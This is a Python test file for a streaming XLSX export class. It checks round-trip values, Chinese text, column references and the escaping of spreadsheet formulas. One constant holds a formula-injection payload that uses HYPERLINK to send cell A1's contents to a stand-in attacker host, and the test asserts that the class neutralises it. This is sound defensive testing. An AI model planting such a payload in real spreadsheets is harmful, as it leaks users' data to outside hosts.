"""``safetynet.spreadsheets.StreamingXlsx``: the write-only workbook of exports of any size reads
back in Excel readers cell for cell, and escapes text like every other workbook."""

from __future__ import annotations

import io
from decimal import Decimal

from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from safetynet.spreadsheets import StreamingXlsx

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _written(rows: list[list[object]], title: str = "家庭清单") -> bytes:
    buffer = io.BytesIO()
    with StreamingXlsx(buffer, title=title) as sheet:
        for row in rows:
            sheet.append(row)
    assert sheet.rows == len(rows)
    return buffer.getvalue()


def test_values_read_back_in_place_with_gaps_kept() -> None:
    content = _written(
        [
            ["编号", "姓名", "金额", "备注"],
            [1, '张三<&>"', Decimal("523.50"), None],
            [2, None, 0.5, " 前后空格 "],
        ]
    )
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["家庭清单"]
    # The watermark footer (issue 12) follows the data rows.
    assert list(book.active.iter_rows(values_only=True))[:3] == [
        ("编号", "姓名", "金额", "备注"),
        (1, '张三<&>"', 523.5, None),
        (2, None, 0.5, " 前后空格 "),
    ]
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert rows[1][:3] == [1, '张三<&>"', 523.5]


def test_text_never_becomes_a_formula_and_control_characters_are_dropped() -> None:
    content = _written([[PAYLOAD, "@SUM(A1)", "-12.50", "a\x01b"]])
    first = next(load_workbook(io.BytesIO(content)).active.iter_rows())  # then the watermark
    cells = list(first)
    assert [c.data_type for c in cells] == ["s", "s", "s", "s"]
    assert [c.value for c in cells] == ["'" + PAYLOAD, "'@SUM(A1)", "-12.50", "ab"]


def test_many_columns_get_two_letter_references() -> None:
    content = _written([list(range(30))])
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows())
    assert [c.value for c in row] == list(range(30))
    assert row[29].coordinate == "AD1"
